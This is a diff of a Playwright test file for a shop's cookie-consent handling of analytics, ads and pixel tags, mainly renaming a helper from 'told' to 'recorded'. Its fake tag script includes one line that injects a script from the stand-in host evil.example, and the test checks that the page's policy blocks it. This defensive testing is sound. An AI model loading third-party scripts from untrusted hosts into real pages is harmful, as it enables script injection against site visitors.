@@ -14,17 +14,17 @@ const TAG_HOSTS =
 const FAKE = `
   if (window.tagRuns === undefined) {
     window.tagRuns = true;
-    const told = (entry) => window.told(JSON.stringify(Array.isArray(entry) ? entry : [...entry]));
-    const follow = (list) => { list.forEach(told); list.push = (entry) => { told(entry); return list.length; }; };
+    const recorded = (entry) => window.recorded(JSON.stringify(Array.isArray(entry) ? entry : [...entry]));
+    const follow = (list) => { list.forEach(recorded); list.push = (entry) => { recorded(entry); return list.length; }; };
     follow(window.dataLayer);
     const add = (src) => { const script = document.createElement('script'); script.src = src; document.head.append(script); };
     add('https://www.googletagmanager.com/second.js');
-    try { add('https://evil.example/x.js'); } catch { window.told('["refused"]'); }
+    try { add('https://evil.example/x.js'); } catch { window.recorded('["refused"]'); }
     fetch('https://region1.google-analytics.com/g/collect', { method: 'POST', mode: 'no-cors', body: '' });
   }
 `;
 
-interface Told {
+interface Recorded {
   readonly commands: readonly (readonly unknown[])[];
   /** Addresses of the tags' hosts that were asked, without queries. */
   readonly asked: readonly string[];
@@ -32,10 +32,10 @@ interface Told {
   readonly complaints: readonly string[];
 }
 
-/** Answers the tags' hosts, and gathers what they and the console are told. */
-async function listen(page: Page): Promise<Told> {
+/** Answers the tags' hosts, and records what they and the console receive. */
+async function listen(page: Page): Promise<Recorded> {
   const [commands, asked, warned, complaints]: [unknown[][], string[], string[], string[]] = [[], [], [], []];
-  await page.exposeFunction('told', (text: string) => commands.push(JSON.parse(text) as unknown[]));
+  await page.exposeFunction('recorded', (text: string) => commands.push(JSON.parse(text) as unknown[]));
   await page.route(TAG_HOSTS, (route) => {
     const { origin, pathname } = new URL(route.request().url());
     asked.push(origin + pathname);
@@ -53,7 +53,7 @@ async function listen(page: Page): Promise<Told> {
 /** Events of the Google tag of Analytics: name and parameters. */
 function events({
   commands,
-}: Told): readonly (readonly [name: unknown, parameters: Readonly<Record<string, unknown>>])[] {
+}: Recorded): readonly (readonly [name: unknown, parameters: Readonly<Record<string, unknown>>])[] {
   return commands.flatMap(([command, name, given]) => {
     const { send_to, ...parameters } = (given ?? {}) as Record<string, unknown>;
     return command === 'event' && send_to === GOOGLE ? [[name, parameters] as const] : [];
@@ -65,8 +65,8 @@ async function pixel(page: Page): Promise<readonly (readonly unknown[])[]> {
   return page.evaluate(() => Reflect.get(Reflect.get(window, 'fbq') as object, 'queue') as unknown[][]);
 }
 
-const names = (told: Told) => events(told).map(([name]) => name);
-const last = (told: Told, wanted: string) => events(told).findLast(([name]) => name === wanted)?.[1];
+const names = (recorded: Recorded) => events(recorded).map(([name]) => name);
+const last = (recorded: Recorded, wanted: string) => events(recorded).findLast(([name]) => name === wanted)?.[1];
 const banner = (page: Page) => page.getByRole('region', { name: 'Cookies in this shop' });
 
 /** The card of a product that can be put into the cart as it is: its uuid, name, and button. */
@@ -89,12 +89,12 @@ test('nothing is asked of a tag before consent; what happens before is blocked, 
   page,
   tagged,
 }) => {
-  const told = await listen(page);
+  const recorded = await listen(page);
   await page.goto(`${tagged}/en/products`);
   await started(page);
-  await expect.poll(() => told.warned).toContain('"page_view" is blocked: no consent to analytics or ads');
+  await expect.poll(() => recorded.warned).toContain('"page_view" is blocked: no consent to analytics or ads');
   await (await card(page)).add.click();
-  await expect.poll(() => told.warned).toContain('"add_to_cart" is blocked: no consent to analytics or ads');
+  await expect.poll(() => recorded.warned).toContain('"add_to_cart" is blocked: no consent to analytics or ads');
   await banner(page).getByRole('button', { name: 'Reject all' }).click();
   await expect(banner(page)).toBeHidden();
   const denied = { ad_storage: 'denied', ad_user_data: 'denied', ad_personalization: 'denied' };
@@ -108,7 +108,7 @@ test('nothing is asked of a tag before consent; what happens before is blocked, 
     { functionality_storage: 'denied', analytics_storage: 'denied', ...denied },
   ]);
   expect(layer.filter(([command]) => command !== 'consent')).toEqual([]);
-  expect([told.asked, told.commands, told.complaints]).toEqual([[], [], []]);
+  expect([recorded.asked, recorded.commands, recorded.complaints]).toEqual([[], [], []]);
 });
 
 test('after consent every step is counted with the values of the cart, until consent is taken back @desktop', async ({
@@ -116,26 +116,26 @@ test('after consent every step is counted with the values of the cart, until con
   tagged,
 }) => {
   test.slow();
-  const told = await listen(page);
+  const recorded = await listen(page);
   await page.goto(`${tagged}/en/products`);
   await banner(page).getByRole('button', { name: 'Accept all' }).click();
 
   // The tags are loaded, with what they load themselves; nobody else's.
   await expect
-    .poll(() => told.asked.toSorted(), { timeout: 30_000 })
+    .poll(() => recorded.asked.toSorted(), { timeout: 30_000 })
     .toEqual([
       'https://connect.facebook.net/en_US/fbevents.js',
       'https://region1.google-analytics.com/g/collect',
       'https://www.googletagmanager.com/gtag/js',
       'https://www.googletagmanager.com/second.js',
     ]);
-  expect(told.commands).toContainEqual(['refused']);
-  expect(told.commands.slice(0, 2).map(([command, action]) => [command, action])).toEqual([
+  expect(recorded.commands).toContainEqual(['refused']);
+  expect(recorded.commands.slice(0, 2).map(([command, action]) => [command, action])).toEqual([
     ['consent', 'default'],
     ['consent', 'update'],
   ]);
-  await expect.poll(() => last(told, 'page_view')).toMatchObject({ page_location: `${tagged}/en/products` });
-  await expect.poll(() => last(told, 'view_item_list')).toMatchObject({ currency: 'THB' });
+  await expect.poll(() => last(recorded, 'page_view')).toMatchObject({ page_location: `${tagged}/en/products` });
+  await expect.poll(() => last(recorded, 'view_item_list')).toMatchObject({ currency: 'THB' });
 
   // Pieces: the difference, at the price of the tier.
   const { uuid, name, link, add } = await card(page);
@@ -149,32 +149,32 @@ test('after consent every step is counted with the values of the cart, until con
   const base = { event_category: 'ecommerce', currency: 'THB' };
   await add.click();
   await expect
-    .poll(() => last(told, 'add_to_cart'))
+    .poll(() => last(recorded, 'add_to_cart'))
     .toEqual({ ...base, value: price, items: [{ ...item, quantity: 1 }] });
   await page
     .getByRole('banner')
     .getByRole('button', { name: /^Cart.*1/ })
     .click();
   await expect
-    .poll(() => last(told, 'view_cart'))
+    .poll(() => last(recorded, 'view_cart'))
     .toEqual({ ...base, value: price, items: [{ ...item, quantity: 1 }] });
   const drawer = page.getByRole('dialog', { name: 'Cart' });
   await drawer.getByRole('button', { name: 'Increase quantity' }).click();
-  await expect.poll(() => names(told).filter((each) => each === 'add_to_cart')).toHaveLength(2);
+  await expect.poll(() => names(recorded).filter((each) => each === 'add_to_cart')).toHaveLength(2);
   await drawer.getByRole('button', { name: 'Decrease quantity' }).click();
   await expect
-    .poll(() => last(told, 'remove_from_cart'))
+    .poll(() => last(recorded, 'remove_from_cart'))
     .toEqual({ ...base, value: price, items: [{ ...item, quantity: 1 }] });
   await page.keyboard.press('Escape');
 
   // A card, the page of its product, a search.
   await link.click();
   await expect
-    .poll(() => last(told, 'view_item'))
+    .poll(() => last(recorded, 'view_item'))
     .toEqual({ ...base, value: price, items: [{ ...item, quantity: 1 }] });
-  expect(last(told, 'select_item')).toMatchObject({ currency: 'THB', items: [{ ...item, quantity: 1 }] });
+  expect(last(recorded, 'select_item')).toMatchObject({ currency: 'THB', items: [{ ...item, quantity: 1 }] });
   await expect
-    .poll(() => last(told, 'page_view'))
+    .poll(() => last(recorded, 'page_view'))
     .toMatchObject({
       page_location: page.url(),
       page_referrer: `${tagged}/en/products`,
@@ -195,28 +195,30 @@ test('after consent every step is counted with the values of the cart, until con
   ]);
   await page.goto(`${tagged}/en/search?q=tea`);
   await started(page);
-  await expect.poll(() => last(told, 'search')).toMatchObject({ event_label: 'tea', search_term: 'tea' });
+  await expect.poll(() => last(recorded, 'search')).toMatchObject({ event_label: 'tea', search_term: 'tea' });
 
-  // Taken back: nothing more, and Google is told.
+  // Taken back: nothing more, and Google receives the withdrawal.
   await page.getByRole('button', { name: 'Cookie settings' }).first().click();
   await page.getByRole('dialog', { name: 'Cookie settings' }).getByRole('button', { name: 'Reject all' }).click();
-  await expect.poll(() => told.commands.at(-1)).toMatchObject(['consent', 'update', { analytics_storage: 'denied' }]);
-  const before = told.commands.length;
+  await expect
+    .poll(() => recorded.commands.at(-1))
+    .toMatchObject(['consent', 'update', { analytics_storage: 'denied' }]);
+  const before = recorded.commands.length;
   await (await card(page)).add.click();
-  await expect.poll(() => told.warned).toContain('"add_to_cart" is blocked: no consent to analytics or ads');
-  expect(told.commands).toHaveLength(before);
+  await expect.poll(() => recorded.warned).toContain('"add_to_cart" is blocked: no consent to analytics or ads');
+  expect(recorded.commands).toHaveLength(before);
   const isDisabled = await page.evaluate((id) => Reflect.get(window, `ga-disable-${id}`) as unknown, GOOGLE);
   expect([isDisabled, (await pixel(page)).at(-1)]).toEqual([true, ['consent', 'revoke']]);
   // The one thing that was refused is what the tag tried at another's host.
-  expect(told.complaints.filter((text) => !text.includes('TrustedScriptURL'))).toEqual([]);
-  expect(told.asked.filter((address) => address.includes('evil'))).toEqual([]);
+  expect(recorded.complaints.filter((text) => !text.includes('TrustedScriptURL'))).toEqual([]);
+  expect(recorded.asked.filter((address) => address.includes('evil'))).toEqual([]);
 });
 
 test('going to pay is counted, and converts in Ads @desktop', async ({ page, tagged }) => {
-  const told = await listen(page);
+  const recorded = await listen(page);
   await page.goto(`${tagged}/en/products`);
   await banner(page).getByRole('button', { name: 'Accept all' }).click();
-  await expect.poll(() => names(told)).toContain('page_view');
+  await expect.poll(() => names(recorded)).toContain('page_view');
   await (await card(page)).add.click();
   await page
     .getByRole('banner')
@@ -224,9 +226,9 @@ test('going to pay is counted, and converts in Ads @desktop', async ({ page, tag
     .click();
   await page.getByRole('dialog', { name: 'Cart' }).getByRole('button', { name: 'Checkout' }).click();
   await page.waitForURL(/\/pay\/checkout\//);
-  const begun = last(told, 'begin_checkout');
+  const begun = last(recorded, 'begin_checkout');
   expect(begun).toMatchObject({ currency: 'THB', value: expect.any(Number) });
-  expect(told.commands).toContainEqual([
+  expect(recorded.commands).toContainEqual([
     'event',
     'conversion',
     { send_to: 'AW-123456789/Begun', value: begun?.value, currency: 'THB' },
@@ -237,15 +239,15 @@ test('statistics alone: Google Analytics counts, ads are blocked, with a warning
   page,
   tagged,
 }) => {
-  const told = await listen(page);
+  const recorded = await listen(page);
   await page.goto(`${tagged}/en`);
   await banner(page).getByRole('button', { name: 'Cookie settings' }).click();
   const dialog = page.getByRole('dialog', { name: 'Cookie settings' });
   await dialog.getByRole('checkbox', { name: 'Statistics' }).check();
   await dialog.getByRole('button', { name: 'Confirm choices' }).click();
-  await expect.poll(() => names(told)).toContain('page_view');
-  expect(told.asked.filter((address) => address.includes('facebook'))).toEqual([]);
-  expect(told.warned.at(-1)).toMatch(/^remarketing of ".*" is blocked for .*: no consent to ads$/);
+  await expect.poll(() => names(recorded)).toContain('page_view');
+  expect(recorded.asked.filter((address) => address.includes('facebook'))).toEqual([]);
+  expect(recorded.warned.at(-1)).toMatch(/^remarketing of ".*" is blocked for .*: no consent to ads$/);
 });
 
 test('a preview lets no tag in, and a page names the hosts of its own tags alone @desktop', async ({
